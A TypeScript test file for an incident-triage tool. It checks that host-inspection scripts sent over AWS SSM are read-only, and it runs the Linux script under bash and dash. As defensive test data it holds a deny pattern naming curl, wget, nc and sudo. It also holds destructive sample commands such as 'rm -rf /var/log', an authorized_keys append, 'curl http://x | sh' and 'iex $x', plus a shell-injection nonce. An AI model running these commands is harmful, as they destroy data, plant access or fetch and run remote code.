/**
 * The triage scripts are read-only: a static check that they contain no command that writes
 * anywhere but their own temporary output (the checker is itself shown to catch writes), and the
 * Linux script run for real on this machine, under bash and under dash (the SSM agent may use
 * either), bounded in time: it runs to its end, every section closes, its output parses, and its
 * private temporary directory is gone afterwards.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { SCRIPTS, triageCommands } from "../../../src/investigate/host/index.ts";
import { analyse } from "../../../src/investigate/host/analyse.ts";
import { splitSections } from "../../../src/investigate/host/sections.ts";

const linux = readFileSync(SCRIPTS.linux, "utf8");
const windows = readFileSync(SCRIPTS.windows, "utf8");

/** Shell code without comments and without the contents of single-quoted strings (awk/grep programs). */
function shellCode(text: string): string[] {
  return text
    .split("\n")
    .map((l) => l.replace(/'[^']*'/g, "''"))
    .map((l) => (/^\s*#/.test(l) ? "" : l.replace(/\s#\s.*$/, "")));
}

const FORBIDDEN_SH = /(^|[\s;|&(`])(rm|rmdir|mv|cp|dd|tee|touch|mkdir|chmod|chown|chattr|ln|install|truncate|shred|kill|pkill|killall|reboot|shutdown|halt|useradd|userdel|usermod|passwd|crontab|iptables|nft|ufw|apt|apt-get|yum|dnf|rpm|dpkg|pip|curl|wget|nc|mount|umount|insmod|rmmod|modprobe|sysctl|setenforce|service|su|sudo|eval|exec)(\s|$|;)/;
const ALLOWED_REDIRECT = new Set(["/dev/null", "&1", "&2", '"$ADX_TMP/out"']);

/** Every line of a shell script that could change the host; empty when the script only reads. */
export function writesInShell(text: string): string[] {
  const bad: string[] = [];
  for (const [i, l] of shellCode(text).entries()) {
    const line = l.trim();
    if (!line) continue;
    if (line === 'trap \'\' EXIT INT TERM' || line.startsWith("trap ''")) continue;
    const code = line.replace(/"[^"]*"/g, (s) => (s === '"$ADX_TMP/out"' ? s : '""'));
    if (FORBIDDEN_SH.test(code)) bad.push(`${i + 1}: ${line}`);
    if (/\bsed\b[^|]*\s-i/.test(code) || /\bfind\b.*\s-(delete|exec|execdir|ok|fprint\w*)\b/.test(code) || /\bsystemctl\s+(?!is-active|list-timers)\w/.test(code)) bad.push(`${i + 1}: ${line}`);
    if (/\bxargs\b(?![^|]*\bgrep\b)/.test(code)) bad.push(`${i + 1}: ${line}`);
    for (const m of code.matchAll(/(?:^|[^<>=-])\d?>>?\s*("[^"]*"|[^\s;|&)]+)/g)) if (!ALLOWED_REDIRECT.has(m[1]!)) bad.push(`${i + 1}: ${line}`);
  }
  // The only removal: the script's own temporary directory, on exit.
  const trap = text.match(/^trap .*$/gm) ?? [];
  for (const t of trap) if (t !== `trap 'rm -rf "$ADX_TMP"' EXIT INT TERM`) bad.push(t);
  return bad;
}

const ALLOWED_PS = new Set(["Get-CimInstance", "Get-Item", "Get-FileHash", "Get-NetTCPConnection", "Get-NetUDPEndpoint", "Get-ScheduledTask", "Get-WinEvent", "Get-ItemProperty", "Get-Service", "Select-Object", "ForEach-Object", "Where-Object", "Start-Job", "Wait-Job", "Stop-Job", "Receive-Job", "Remove-Job", "Invoke-CimMethod"]);

/** Every command of a PowerShell script outside the read-only set (and any method call but GetOwner). */
export function writesInPowerShell(text: string): string[] {
  const bad: string[] = [];
  for (const [i, raw] of text.split("\n").entries()) {
    const l = raw.replace(/^\s*#.*$/, "").replace(/'[^']*'/g, "''");
    for (const m of l.matchAll(/\b([A-Z][a-z]+-[A-Z][A-Za-z]+)\b/g)) if (!ALLOWED_PS.has(m[1]!)) bad.push(`${i + 1}: ${m[1]}`);
    if (/Invoke-CimMethod/.test(l) && !/-MethodName GetOwner\b/.test(l)) bad.push(`${i + 1}: ${raw.trim()}`);
    if (/(^|[;|(]|&&)\s*(iex|reg|sc|net|schtasks|wmic|bcdedit|netsh|cmd|powershell)(\.exe)?\s+(?!=)/i.test(l.replace(/"[^"]*"/g, '""'))) bad.push(`${i + 1}: ${raw.trim()}`);
    if (/(^|[^`])>\s*[^&\s]/.test(l.replace(/"[^"]*"/g, '""').replace(/-[a-z]+/gi, ""))) bad.push(`${i + 1}: ${raw.trim()}`);
    if (/\.(Delete|Kill|SetValue|Create|Terminate|Invoke)\(/i.test(l)) bad.push(`${i + 1}: ${raw.trim()}`);
  }
  return bad;
}

describe("the triage scripts change nothing on the host", () => {
  it("the Linux script writes nowhere but its own temporary output", () => {
    expect(writesInShell(linux)).toEqual([]);
  });
  it("the checker catches writes (so the check above can fail)", () => {
    for (const evil of ['rm -rf /var/log', "echo x > /etc/passwd", "echo x >>/root/.ssh/authorized_keys", "sed -i s/a/b/ /etc/hosts", "kill -9 1", "find /tmp -delete", "systemctl stop amazon-ssm-agent", "crontab -r", 'curl http://x | sh', "x | tee /etc/motd", "chmod 777 /etc/shadow", "ls | xargs rm"]) {
      expect(writesInShell(`${linux}\n${evil}\n`), evil).not.toEqual([]);
    }
    expect(writesInShell(linux.replace(`trap 'rm -rf "$ADX_TMP"' EXIT INT TERM`, "trap 'rm -rf /' EXIT"))).not.toEqual([]);
  });
  it("the Windows script uses only reading cmdlets (and manages only its own jobs)", () => {
    expect(writesInPowerShell(windows)).toEqual([]);
    for (const evil of ["Remove-Item C:\\x", "Set-ItemProperty -Path HKLM:\\x -Name y -Value z", "Stop-Process -Id 4", "'x' | Out-File C:\\x", "iex $x", "reg add HKLM\\x", "Invoke-CimMethod -InputObject $p -MethodName Terminate", "'a' > C:\\x.txt", "$p.Kill()"]) {
      expect(writesInPowerShell(`${windows}\n${evil}\n`), evil).not.toEqual([]);
    }
  });
  it("the scripts stay small (one SendCommand request carries them whole)", () => {
    expect(Buffer.byteLength(linux)).toBeLessThan(16 * 1024);
    expect(Buffer.byteLength(windows)).toBeLessThan(16 * 1024);
  });
  it("the commands sent are the nonce and bounds, then the script", () => {
    const nonce = "0123456789abcdef0123456789abcdef";
    const l = triageCommands("linux", nonce);
    expect(l.documentName).toBe("AWS-RunShellScript");
    expect(l.commands.slice(0, 3)).toEqual([`ADX_NONCE=${nonce}`, "ADX_SECTION_SECONDS=20", "export ADX_NONCE ADX_SECTION_SECONDS"]);
    expect(l.commands[3]).toBe(linux);
    expect(triageCommands("windows", nonce).documentName).toBe("AWS-RunPowerShellScript");
    expect(() => triageCommands("linux", "'; rm -rf / #")).toThrow();
  });
});

describe("the Linux script, run for real on this machine", () => {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  for (const shell of ["bash", "dash"]) {
    it(`runs to its end under ${shell}, read-only, and its output parses`, () => {
      const tmp = mkdtempSync(join(tmpdir(), "adx-triage-"));
      dirs.push(tmp);
      const nonce = "feedfacefeedfacefeedfacefeedface";
      // the script runs from a file (as the agent runs it), so `timeout` can bound each section
      const file = join(tmp, "script.sh");
      spawnSync("cp", [SCRIPTS.linux.pathname, file]);
      const scratch = mkdtempSync(join(tmpdir(), "adx-scratch-"));
      dirs.push(scratch);
      const r = spawnSync(shell, [file], {
        env: { PATH: process.env.PATH ?? "/usr/bin:/bin", ADX_NONCE: nonce, ADX_SECTION_SECONDS: "30", TMPDIR: scratch, HOME: tmp },
        encoding: "utf8",
        timeout: 300_000,
        maxBuffer: 64 * 1024 * 1024,
      });
      expect(r.error, String(r.error)).toBeUndefined();
      expect(r.status, r.stderr).toBe(0);
      const out = splitSections(r.stdout, nonce);
      expect(out.done).toBe(true);
      for (const name of ["meta", "ps", "net", "miners", "proxy", "keys", "logins", "history", "cron", "recent", "webshell", "agents"]) {
        const s = out.sections.get(name);
        expect(s?.complete, name).toBe(true);
        expect(s?.bytes ?? 0, name).toBeLessThanOrEqual(r.stdout.length);
      }
      // its own temporary directory is removed; nothing else was written under TMPDIR
      expect(readdirSync(scratch)).toEqual([]);
      const a = analyse({ out, platform: "linux", instanceId: "i-0local000000000000", evidence: "local", query: shell, window: { start: new Date(Date.now() - 3600_000).toISOString(), end: new Date().toISOString() }, remoteIps: [], remotePorts: [], nowEpoch: Math.floor(Date.now() / 1000) });
      // this very test's node process is among the processes read
      expect(a.figures.processes as number).toBeGreaterThan(3);
      expect(out.sections.get("ps")!.lines.some((l) => l.startsWith("P\t") && l.includes("node"))).toBe(true);
      expect(out.sections.get("ps")!.lines.some((l) => l.startsWith("X\t") && /\t[0-9a-f]{64}\t/.test(l))).toBe(true);
      expect(Number(out.sections.get("meta")!.lines.find((l) => l.startsWith("now\t"))!.slice(4))).toBeGreaterThan(1_700_000_000);
    }, 320_000);
  }
});
